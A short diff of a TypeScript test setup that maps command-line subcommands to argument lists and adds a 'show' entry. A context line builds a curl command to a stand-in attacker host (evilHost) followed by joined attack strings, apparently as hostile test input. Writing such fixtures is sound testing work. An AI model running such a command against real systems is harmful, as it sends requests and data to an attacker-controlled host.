@@ -44,6 +44,7 @@ beforeAll(async () => {
   const given: Readonly<Record<string, readonly string[]>> = {
     scan: [home, ...evidence],
     explain: [`curl https://${evilHost}/ ${Object.values(attacks).slice(0, -1).join(' ')}`],
+    show: ['toolu_0_0', ...evidence],
     collect: ['--dry-run', ...evidence],
     verify: [bag],
     'fleet load': [spool, ...database],
